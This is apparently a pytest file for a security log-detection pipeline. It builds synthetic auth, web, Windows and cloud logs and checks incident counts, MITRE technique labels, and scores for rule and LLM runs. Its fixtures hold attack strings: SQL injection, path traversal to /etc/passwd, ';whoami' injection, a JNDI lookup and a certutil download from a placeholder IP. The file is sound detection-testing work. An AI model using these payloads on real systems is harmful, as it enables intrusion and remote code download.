"""End to end on miniature logs: known units, incidents, labels, scores and picks."""

import json

import pytest
from pyspark.sql import functions as F

from sentrylake.operators import disagree, labelling, parse, rules, scoring
from sentrylake.plans.detection import detect
from sentrylake.schemas import raw
from sentrylake.sources.readers import json_records


def at(seconds, day=10):
    return f"{day}/Jan/2026:{8 + seconds // 3600:02d}:{seconds // 60 % 60:02d}:{seconds % 60:02d} +0000"


def hit(ip, seconds, path, status, method="GET", agent="Mozilla/5.0", day=10):
    return f'{ip} - - [{at(seconds, day)}] "{method} {path} HTTP/1.1" {status} 64 "-" "{agent}"'


def auth_log():
    guess = lambda ip, n, start: [f"Jan 10 09:{start + i // 60:02d}:{i % 60:02d} gw sshd[9]: Failed password for {('root', 'admin', 'git')[i % 3]} from {ip} port 4{i} ssh2" for i in range(n)]
    out = ["Jan 10 09:00:01 gw sshd[1]: Accepted password for ops from 203.0.113.5 port 5 ssh2", "Jan 10 09:01:01 gw sudo: ops : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/true"]
    out += guess("192.0.2.100", 13, 2) + guess("198.51.100.50", 23, 3) + guess("203.0.113.99", 86, 5)
    out += [f"Jan 10 09:08:0{i} gw sshd[9]: Invalid user x{i} from 198.51.100.200 port 4" for i in range(2)]
    return out + ["Jan 10 09:14:00 gw sshd[9]: Accepted password for root from 203.0.113.99 port 5 ssh2", "Jan 10 09:14:30 gw sudo: eve : command not allowed ; TTY=pts/1 ; NOT in sudoers"]


def access_log():
    out = [hit("203.0.113.5", i, p, 200) for i, p in enumerate(("/", "/about", "/team"))]
    out += [hit("192.0.2.200", 60 + i, f"/old{i}", 404) for i in range(35)]
    out += [hit("198.51.100.77", 120 + i, f"/d{i}", 404, agent="gobuster/3.6") for i in range(90)]
    out += [hit("203.0.113.50", 240, "/.env", 200, agent="curl/8"), hit("203.0.113.50", 241, "/admin", 302, agent="curl/8"), hit("203.0.113.50", 242, "/robots.txt", 200, agent="curl/8"), hit("203.0.113.50", 243, "/.git/config", 404, agent="curl/8")]
    attacks = ("/i?id=1%20UNION%20SELECT%20a", "/i?id=x'%20OR%20'1'='1", "/f?p=../../x", "/f?p=/etc/passwd", "/c?x=1;whoami", "/")
    out += [hit("203.0.113.99", 300 + i, p, 500, agent="${jndi:ldap://h/x}" if p == "/" else "Mozilla/5.0") for i, p in enumerate(attacks)]
    return out + [hit("203.0.113.99", 299, "/", 200, agent="nikto/2.5")]


def login_log():
    out = [hit("203.0.113.5", 4495, "/login", 200, day=12)]
    out += [hit("203.0.113.77", 4500 + i, "/login", 401 if i < 23 else 200, "POST", day=12) for i in range(24)]
    return out + [hit("203.0.113.5", 4560, "/dashboard", 200, day=12)]


def windows_log():
    row = lambda code, t, **more: json.dumps({"timestamp": f"2026-01-10T09:{t}+00:00", "event_code": code, "host": "WIN-SERVER01"} | more)
    out = [row("4624", "00:00", username="jo", source_ip="203.0.113.5")]
    out += [row("4625", f"05:{5 * i:02d}", username="admin" if i == 4 else "administrator", source_ip="192.0.2.150") for i in range(7)]
    out += [row("4672", "10:00", username="jo", source_ip=None)]
    out += [row("4688", "15:00", username="jo", source_ip=None, process_name="p.exe", command_line="powershell -enc eA=="), row("4688", "16:00", username="jo", source_ip=None, process_name="c.exe", command_line="certutil -urlcache -f http://203.0.113.99/a")]
    return out + [row("4720", "20:00", username="administrator", source_ip="192.0.2.150", new_account="extra")]


def cloud_log():
    row = lambda t, action, user, ip, status="success", **more: json.dumps({"timestamp": f"2026-01-10T{t}:00+00:00", "action": action, "status": status, "username": user, "source_ip": ip} | more)
    dev, adm = ("dev@x.org", "203.0.113.10"), ("adm@x.org", "198.51.100.30")
    out = [row("08:00", "console_login", *dev), row("08:30", "console_login", *adm, "failure"), row("08:31", "console_login", *adm, "failure"), row("08:45", "api_key_created", *dev)]
    out += [row(f"09:0{i}", "security_group_rule_added", *dev, port=p, cidr="0.0.0.0/0") for i, p in enumerate((22, 5432, 3389))]
    return out + [row("09:10", "iam_policy_changed", *adm, policy_name="Full", target_user="svc")]


LOGS = {"linux_auth.log": auth_log, "nginx_access.log": access_log, "nginx_auth_bruteforce.log": login_log, "windows_security.jsonl": windows_log, "cloud_audit.jsonl": cloud_log}


@pytest.fixture(scope="module")
def found(spark, tmp_path_factory):
    folder = tmp_path_factory.mktemp("logs")
    for name, make in LOGS.items():
        (folder / name).write_text("\n".join(make()) + "\n")
    units, _ = detect(spark, str(folder))
    return rules.rule_verdicts(units, keep=("source", "actor", "action", "target", "raw")).cache()


def test_units_and_incidents_by_source(found):
    got = {r.source: (r.n, r.bad) for r in found.groupBy("source").agg(F.count("*").alias("n"), F.count_if(F.col("is_incident")).alias("bad")).collect()}
    assert got == {"linux_auth": (8, 3), "nginx_access": (108, 101), "windows_security": (6, 1), "cloud_audit": (7, 4)}
    assert sum(n for n, _ in got.values()) == 129 and sum(b for _, b in got.values()) == 109


def test_incidents_in_detail(found):
    got = {(r.actor, r.technique): r.n for r in found.filter("source = 'nginx_access'").groupBy("actor", "technique").agg(F.count("*").alias("n")).collect()}
    assert got == {
        ("192.0.2.200", "T1595.002"): 1, ("198.51.100.77", "T1595.002"): 90, ("203.0.113.50", "T1083"): 2, ("203.0.113.50", None): 2, ("203.0.113.99", "T1190"): 6, ("203.0.113.99", "T1595.002"): 1,
        ("203.0.113.77", "T1110"): 1, ("203.0.113.5", None): 5,
    }
    n = {r.actor: (r.raw["count"], r.is_incident) for r in found.filter("action = 'ssh_failed_password'").collect()}
    assert n == {"192.0.2.100": (13, True), "198.51.100.50": (23, True), "203.0.113.99": (86, True), "198.51.100.200": (2, False)}
    cloud = sorted(str(r.technique) for r in found.filter("source = 'cloud_audit'").collect())
    assert cloud == ["None"] * 3 + ["T1098"] + ["T1562.007"] * 3
    windows = {r.action: (r.raw["count"], r.technique) for r in found.filter("source = 'windows_security' and action in ('logon_failure', 'user_account_created')").collect()}
    assert windows == {"logon_failure": (7, None), "user_account_created": (None, "T1136.001")}


@pytest.fixture(scope="module")
def labelled(spark):
    log = lambda make: spark.createDataFrame(list(enumerate(make())), "line_no long, line string")
    rows = labelling.assembled(
        labelling.label_auth(parse.auth_records(log(auth_log))), labelling.label_access(parse.access_records(log(access_log))), labelling.label_login_posts(parse.access_records(log(login_log))),
        labelling.label_windows(json_records(log(windows_log))), labelling.label_cloud(json_records(log(cloud_log))),
    )
    return rows.select("*", "event.source").cache()


def test_labelled_units_and_their_scores(labelled):
    got = {r.source: (r.n, r.bad) for r in labelled.groupBy("source").agg(F.count("*").alias("n"), F.count_if(F.col("label") == "incident").alias("bad")).collect()}
    assert sum(n for n, _ in got.values()) == 37 and sum(b for _, b in got.values()) == 22
    assert {s: n for s, (n, _) in got.items()} == {"linux_auth": 8, "nginx_access": 16, "windows_security": 6, "cloud_audit": 7}
    said = rules.rule_verdicts(rules.label_blind(labelled)).select(F.lit("rules").alias("run_key"), F.lit(1).alias("line_no"), "unit_id", "is_incident", "technique")
    for s in (scoring.scored(labelled, said).first(), scoring.scores(scoring.judged(labelled, said)).first()):
        assert (s.tp, s.fp, s.fn, s.tn, s.n_missing) == (18, 1, 4, 14, 0)
        assert (round(s.precision, 4), round(s.recall, 4), round(s.f1, 4), round(s.fp_per_1000, 2), s.technique_accuracy) == (0.9474, 0.8182, 0.878, 27.03, 1.0)
    missed = labelled.join(said.filter("not is_incident"), "unit_id").filter("label = 'incident'")
    assert sorted(r[0] for r in missed.select(labelled["technique"]).collect()) == ["T1059.001", "T1078", "T1105", "T1110.001"]


# run, true and false alarms, incidents whose technique is right; then precision, recall, f1, alarms per 1,000
PUBLISHED = [
    ("rules", 18, 1, 18, 0.9474, 0.8182, 0.878, 4.33), ("llm_v1", 20, 64, 0, 0.2381, 0.9091, 0.3774, 277.06), ("llm_v3", 22, 119, 16, 0.156, 1.0, 0.2699, 515.15), ("hybrid", 22, 119, 20, 0.156, 1.0, 0.2699, 515.15),
    ("q_v1", 17, 6, 0, 0.7391, 0.7727, 0.7556, 25.97), ("q_v3", 19, 13, 0, 0.5938, 0.8636, 0.7037, 56.28), ("d_v1", 9, 2, 0, 0.8182, 0.4091, 0.5455, 8.66), ("d_v3", 16, 12, 0, 0.5714, 0.7273, 0.64, 51.95),
    ("g_v1", 14, 11, 0, 0.56, 0.6364, 0.5957, 47.62), ("g_v3", 19, 15, 0, 0.5588, 0.8636, 0.6786, 64.94),
]


def published(spark):
    labels = spark.createDataFrame([(f"u{i:03d}", ("a", "b")[i % 2], "incident" if i < 22 else "benign", "T1" if i < 22 else None) for i in range(231)], "unit_id string, source string, label string, technique string")
    rows = []
    for name, tp, fp, right, *_ in PUBLISHED:
        for i in range(231):
            bad = i < tp or 22 <= i < 22 + fp
            if bad or i % 2 or name != "q_v1":  # one run leaves benign units out
                rows.append((name, i, f"u{i:03d}", bad, "t1" if i < right else "T9"))
    rows += [("rules", 900, "unknown", True, "T1"), ("rules", -1, "u000", False, None)]
    return labels, spark.createDataFrame(rows, "run_key string, line_no long, unit_id string, is_incident boolean, technique string")


def test_published_scores(spark):
    labels, runs = published(spark)
    got = {r.run_key: r for r in scoring.summary(scoring.scored(labels, runs)).collect()}
    for name, tp, fp, right, *want in PUBLISHED:
        r = got[name]
        assert (r.tp, r.fp, r.fn, r.tn, [r.precision, r.recall, r.f1, r.fp_per_1000]) == (tp, fp, 22 - tp, 209 - fp, want), name
        assert r.technique_accuracy == round(right / tp, 4)
    assert got["q_v1"].n_missing > 0 and got["rules"].n_missing == 0


def test_subtraction_gives_the_same(spark):
    labels, runs = published(spark)
    key = lambda df: sorted(map(str, df.select(sorted(df.columns)).collect()))
    judged = scoring.judged(labels, runs)
    assert key(scoring.scored(labels, runs)) == key(scoring.scores(judged))
    assert key(scoring.errors(labels, runs)) == key(scoring.error_counts(judged))
    gone = scoring.missing_predictions(labels, runs, "q_v1")
    assert gone.count() == judged.filter("missing and run_key = 'q_v1'").count() > 0
    only_unknown = runs.limit(0).union(spark.createDataFrame([("odd", 1, "nobody", True, None)], runs.schema))
    r = scoring.scored(labels, only_unknown).first()
    assert (r.n_units, r.n_missing, r.tp, r.fp, r.fn, r.tn) == (231, 231, 0, 0, 22, 209)
    plan = scoring.scored(labels, runs)._jdf.queryExecution().executedPlan().toString()
    assert "Cartesian" not in plan and "NestedLoop" not in plan


def test_disagreement_picks(spark):
    source = {"lx": "linux_auth", "ng": "nginx_access", "win": "windows_security", "cld": "cloud_audit"}
    miss = ["lx-0044", "win-0019", "win-0021", "win-0022"]
    alarm = ["cld-0001", "cld-0002", "lx-0002", "lx-0003", "ng-0002", "ng-0010", "win-0001"]
    quiet = ["ng-0001", "win-0030"]
    event = F.struct("source", F.lit("a").alias("action"), F.lit("b").alias("actor"), raw(line=F.lit("l")).alias("raw"))
    rows = [(u, source[u.split("-")[0]], "incident" if u in miss else "benign", "T1" if u in miss else None, "Because. And more.") for u in miss + alarm + quiet]
    lab = spark.createDataFrame(rows, "unit_id string, source string, label string, technique string, rationale string").withColumn("event", event)
    run = lambda flagged: spark.createDataFrame([(u, u in flagged, "T1") for u in miss + alarm + quiet], "unit_id string, is_incident boolean, technique string")
    got = disagree.example_sets(lab, run([]), run(miss + alarm)).orderBy("set", "place").collect()
    assert [r.unit_id for r in got if r.set == "helps"] == ["lx-0044", "win-0019", "win-0021"]
    assert [r.unit_id for r in got if r.set == "misfires"] == ["cld-0001", "lx-0002", "ng-0002"]
    assert all(r.why == "Because." for r in got)
